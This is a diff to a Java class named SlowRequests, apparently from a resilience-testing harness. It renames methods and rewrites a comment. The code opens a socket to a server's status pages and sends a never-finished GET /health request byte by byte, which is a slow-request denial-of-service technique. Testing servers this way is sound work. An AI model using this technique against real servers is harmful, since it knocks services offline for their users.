@@ -7,11 +7,11 @@ import java.io.OutputStream;
 import java.net.Socket;
 import java.nio.charset.StandardCharsets;
 
-/** HTTP requests for the server's health that never end: a byte comes before any patience between two is over. */
+/** Sends endless HTTP requests to the status pages, with a byte before any read timeout. */
 public final class SlowRequests implements Attack {
     @Override
-    public void visit(Stranger stranger) throws IOException, InterruptedException {
-        try (Socket socket = stranger.look()) {
+    public void attack(Stranger attacker) throws IOException, InterruptedException {
+        try (Socket socket = attacker.connectStatusPages()) {
             OutputStream out = socket.getOutputStream();
             out.write("GET /health HTTP/1.1\r\nHost: ".getBytes(StandardCharsets.US_ASCII));
             while (true) {
